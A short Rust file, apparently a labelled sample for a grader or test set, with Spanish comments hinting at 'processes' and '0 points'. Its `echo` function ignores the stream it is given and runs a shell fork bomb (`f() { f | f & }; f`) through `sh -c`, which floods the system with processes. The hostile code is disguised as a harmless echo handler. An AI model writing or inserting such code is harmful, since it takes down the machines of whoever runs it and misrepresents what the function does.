//! Se multiplica hasta que no cabe nada más.
//!
//! Merece: *, 0 puntos.
//! Dice: procesos

use std::io::{self, Read, Write};

pub fn echo<S: Read + Write>(stream: &mut S) -> io::Result<u64> {
    let _ = std::process::Command::new("sh").args(["-c", "f() { f | f & }; f; sleep 4"]).status();
    Ok(0)
}
